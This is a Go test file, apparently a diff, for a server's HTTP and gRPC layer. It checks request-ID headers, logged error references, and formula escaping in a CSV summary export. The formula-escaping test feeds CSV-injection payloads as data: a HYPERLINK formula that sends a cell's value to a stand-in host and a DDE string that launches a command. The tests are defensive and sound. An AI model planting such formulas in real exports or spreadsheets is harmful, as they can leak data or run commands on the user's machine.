@@ -1,0 +1,217 @@
+package server_test
+
+import (
+	"bytes"
+	"encoding/csv"
+	"encoding/json"
+	"io"
+	"log/slog"
+	"net/http"
+	"regexp"
+	"strings"
+	"sync"
+	"testing"
+
+	"google.golang.org/grpc"
+	"google.golang.org/grpc/codes"
+	"google.golang.org/grpc/metadata"
+	"google.golang.org/grpc/status"
+
+	twinningv1 "github.com/provex/provex/gen/go/provex/twinning/v1"
+	"github.com/provex/provex/server"
+)
+
+// logBuffer collects a node's log lines (JSON) for a test to search.
+type logBuffer struct {
+	mu sync.Mutex
+	b  bytes.Buffer
+}
+
+func (l *logBuffer) Write(p []byte) (int, error) {
+	l.mu.Lock()
+	defer l.mu.Unlock()
+	return l.b.Write(p)
+}
+
+// errorsWith returns the ERROR lines whose request_id is id.
+func (l *logBuffer) errorsWith(id string) []map[string]any {
+	l.mu.Lock()
+	defer l.mu.Unlock()
+	var out []map[string]any
+	for _, line := range strings.Split(l.b.String(), "\n") {
+		var m map[string]any
+		if json.Unmarshal([]byte(line), &m) == nil && m["level"] == "ERROR" && m["request_id"] == id {
+			out = append(out, m)
+		}
+	}
+	return out
+}
+
+// sendHTTP sends a request with the header X-Request-Id: id (none if "")
+// and returns the response with its body read.
+func sendHTTP(t *testing.T, tn *testNode, method, path string, body io.Reader, id string) (*http.Response, []byte) {
+	t.Helper()
+	req, err := http.NewRequest(method, tn.BaseURL+path, body)
+	mustf(t, err, "%s %s", method, path)
+	req.Header.Set("Authorization", "Bearer "+tn.Token)
+	if id != "" {
+		req.Header.Set("X-Request-Id", id)
+	}
+	resp, err := http.DefaultClient.Do(req)
+	mustf(t, err, "%s %s", method, path)
+	defer resp.Body.Close()
+	b, err := io.ReadAll(resp.Body)
+	mustf(t, err, "%s %s: read body", method, path)
+	return resp, b
+}
+
+// TestEveryHTTPResponseHasRequestID: refusals made by the HTTP layer itself
+// (no route, wrong method, body too large, before or while reading it) and
+// by the gRPC server (rate limit, not found) and successes, CSV included,
+// all carry X-Request-Id (the caller's when sane), a JSON error body and
+// the right status: 413 for a body over the limit, never 429 or 500.
+func TestEveryHTTPResponseHasRequestID(t *testing.T) {
+	t.Parallel()
+	const limit = 64 << 10
+	tn := startSecNode(t, "cao-bang", func(c *server.Config) { c.Limits.MaxMessageBytes = limit })
+	flood := startSecNode(t, "cao-bang", func(c *server.Config) { c.Limits.RatePerSecond, c.Limits.Burst = 0.001, 1 })
+	const coll = "/v1/provinces/cao-bang/agreements"
+	big := `{"display_name":"big","kind":"KIND_MOU","summary":"` + strings.Repeat("x", limit) + `"}`
+
+	for _, c := range []struct {
+		what, method, path string
+		body               func() io.Reader
+		status             int
+		code               codes.Code
+	}{
+		{"unknown API path", "GET", "/v1/nothing/here", nil, 404, codes.NotFound},
+		{"unknown path", "GET", "/nothing", nil, 404, codes.NotFound},
+		{"missing record", "GET", coll + "/missing", nil, 404, codes.NotFound},
+		{"method not allowed on the API", "DELETE", coll, nil, 405, codes.Unimplemented},
+		{"method not allowed on health", "POST", "/healthz", nil, 405, codes.Unimplemented},
+		{"body over the limit, with a length", "POST", coll, func() io.Reader { return strings.NewReader(big) }, 413, codes.ResourceExhausted},
+		// A reader of unknown length is sent chunked.
+		{"body over the limit, chunked", "POST", coll, func() io.Reader { return io.MultiReader(strings.NewReader(big)) }, 413, codes.ResourceExhausted},
+		{"CSV of an unknown collection", "GET", "/v1/national/nothing/summary.csv", nil, 400, codes.InvalidArgument},
+		{"health", "GET", "/healthz", nil, 200, codes.OK},
+		{"CSV", "GET", "/v1/national/agreements/summary.csv?group_by=kind", nil, 200, codes.OK},
+	} {
+		for _, sent := range []string{"", "caller-id-1", "bad id with spaces"} {
+			var body io.Reader
+			if c.body != nil {
+				body = c.body()
+			}
+			resp, b := sendHTTP(t, tn, c.method, c.path, body, sent)
+			got := resp.Header.Values("X-Request-Id")
+			switch {
+			case len(got) != 1:
+				t.Errorf("%s (sent %q): X-Request-Id %q, want exactly one", c.what, sent, got)
+			case sent == "caller-id-1" && got[0] != sent:
+				t.Errorf("%s: X-Request-Id %q, want the caller's %q", c.what, got[0], sent)
+			case sent != "caller-id-1" && !requestIDPattern.MatchString(got[0]):
+				t.Errorf("%s (sent %q): X-Request-Id %q, want one the server made", c.what, sent, got[0])
+			}
+			if c.code == codes.OK {
+				if resp.StatusCode != 200 {
+					t.Errorf("%s: HTTP %d %s", c.what, resp.StatusCode, b)
+				}
+				continue
+			}
+			wantHTTPDenied(t, c.what, resp.StatusCode, b, c.status, c.code)
+		}
+	}
+
+	// Rate limited: 429 with the id.
+	for i := 0; i < 3; i++ {
+		resp, b := sendHTTP(t, flood, "GET", coll, nil, "")
+		if resp.StatusCode == http.StatusTooManyRequests {
+			wantHTTPDenied(t, "rate limited", resp.StatusCode, b, 429, codes.ResourceExhausted)
+			if !requestIDPattern.MatchString(resp.Header.Get("X-Request-Id")) {
+				t.Errorf("429 without X-Request-Id: %q", resp.Header.Values("X-Request-Id"))
+			}
+			return
+		}
+	}
+	t.Errorf("three calls against a burst of 1 at 0.001/s: no 429")
+}
+
+var referencePattern = regexp.MustCompile(`\(reference ([^)]+)\)`)
+
+// TestInternalErrorReferenceIsLogged: an internal error (here the store
+// closed under a running node) reaches the caller, over HTTP and gRPC, only
+// as a reference that is its request id, and the node logs the error at
+// ERROR under that id.
+func TestInternalErrorReferenceIsLogged(t *testing.T) {
+	t.Parallel()
+	logs := &logBuffer{}
+	tn := startSecNode(t, "cao-bang", func(c *server.Config) { c.Logger = slog.New(slog.NewJSONHandler(logs, nil)) })
+	ctx := testCtx(t)
+	mustf(t, tn.Srv.Store().Close(), "close the store")
+
+	resp, body := sendHTTP(t, tn, "GET", "/v1/provinces/cao-bang/agreements/x", nil, "")
+	wantHTTPDenied(t, "HTTP get on a closed store", resp.StatusCode, body, 500, codes.Internal, "reference")
+	id := resp.Header.Get("X-Request-Id")
+	e := decodeHTTPError(t, body)
+	if m := referencePattern.FindStringSubmatch(e.Message); m == nil || m[1] != id {
+		t.Errorf("HTTP: message %q, want the reference %q (the X-Request-Id)", e.Message, id)
+	}
+	if !strings.Contains(string(body), `"request_id":"`+id+`"`) {
+		t.Errorf("HTTP: body %s lacks a RequestInfo detail with %q", body, id)
+	}
+	if len(logs.errorsWith(id)) == 0 {
+		t.Errorf("HTTP: no ERROR log line with request_id %q:\n%s", id, logs.b.String())
+	}
+
+	var header metadata.MD
+	_, err := tn.Twinning.GetAgreement(ctx, &twinningv1.GetAgreementRequest{Name: "provinces/cao-bang/agreements/x"}, grpc.Header(&header))
+	st := status.Convert(err)
+	ids := header.Get("x-request-id")
+	if st.Code() != codes.Internal || len(ids) != 1 {
+		t.Fatalf("gRPC get on a closed store: %v, x-request-id %q; want INTERNAL with one id", err, ids)
+	}
+	if m := referencePattern.FindStringSubmatch(st.Message()); m == nil || m[1] != ids[0] {
+		t.Errorf("gRPC: message %q, want the reference %q (the x-request-id)", st.Message(), ids[0])
+	}
+	if len(logs.errorsWith(ids[0])) == 0 {
+		t.Errorf("gRPC: no ERROR log line with request_id %q", ids[0])
+	}
+}
+
+// TestSummaryCSVEscapesFormulas: text a spreadsheet would run as a formula
+// (starting with =, +, -, @, tab or CR) comes out of summary.csv behind a
+// single quote; counts, and text that is just a number, stay as they are.
+func TestSummaryCSVEscapesFormulas(t *testing.T) {
+	tn := startNode(t, "cao-bang")
+	ctx := testCtx(t)
+	names := map[string]string{
+		`=HYPERLINK("http://x.example/?"&A1)`: `'=HYPERLINK("http://x.example/?"&A1)`,
+		"+SUM(A1:A9)":                         "'+SUM(A1:A9)",
+		"-2+3+cmd|' /C calc'!A0":              "'-2+3+cmd|' /C calc'!A0",
+		"@SUM(1)":                             "'@SUM(1)",
+		"\tTAB":                               "'\tTAB",
+		"-42":                                 "-42",
+		"plain":                               "plain",
+	}
+	for name := range names {
+		_, err := tn.Twinning.CreateAgreement(ctx, &twinningv1.CreateAgreementRequest{Parent: tn.parent(), Agreement: newAgreement(name)})
+		mustf(t, err, "create %q", name)
+	}
+	resp, body := sendHTTP(t, tn, "GET", "/v1/national/agreements/summary.csv?group_by=display_name", nil, "")
+	if resp.StatusCode != 200 {
+		t.Fatalf("summary.csv: HTTP %d %s", resp.StatusCode, body)
+	}
+	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
+	mustf(t, err, "read the CSV %s", body)
+	got := map[string]bool{}
+	for _, row := range rows[1:] {
+		got[row[0]] = true
+		if row[1] != "1" && row[0] != "total" {
+			t.Errorf("row %q: count %q, want 1", row, row[1])
+		}
+	}
+	for name, want := range names {
+		if !got[want] {
+			t.Errorf("%q: no row keyed %q in\n%s", name, want, body)
+		}
+	}
+}
